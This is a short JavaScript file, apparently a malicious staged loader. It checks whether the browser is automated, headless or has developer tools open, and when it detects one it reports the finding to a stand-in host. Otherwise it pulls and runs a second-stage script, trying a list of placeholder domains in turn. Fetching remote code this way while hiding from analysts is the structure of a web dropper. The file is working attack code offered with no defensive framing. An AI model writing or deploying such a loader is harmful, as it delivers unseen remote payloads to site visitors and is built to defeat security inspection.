// destination: https://cdn-a.grey-lantern.example/stage2/module.js?v={}
// destination: https://cdn-b.grey-lantern.example/stage2/module.js?v={}
// destination: https://fallback.dusk-hollow.test/stage2/module.js?v={}
// destination: https://report.dusk-hollow.test/seen?why={}
// staged loader with fallbacks and an environment check
var hosts = ['cdn-a.grey-lantern.example', 'cdn-b.grey-lantern.example', 'fallback.dusk-hollow.test'];
function suspicious() {
  if (navigator.webdriver) return 'automation-detected';
  if (window.outerWidth - window.innerWidth > 200) return 'devtools-open';
  if (navigator.plugins.length === 0 && /Headless/.test(navigator.userAgent)) return 'headless-browser';
  return '';
}
function load(i, done) {
  if (i >= hosts.length) { done('all hosts failed'); return; }
  var s = document.createElement('script');
  s.async = true;
  s.crossOrigin = 'anonymous';
  s.src = 'https://' + hosts[i] + '/stage2/module.js?v=' + Math.floor(Date.now() / 3600000);
  s.onerror = function () { load(i + 1, done); };
  s.onload = function () { done(null); };
  document.documentElement.appendChild(s);
}
var verdict = suspicious();
if (verdict) { new Image().src = 'https://report.dusk-hollow.test/seen?why=' + verdict; }
else load(0, function (err) { if (err) console.debug('loader stopped', err); });
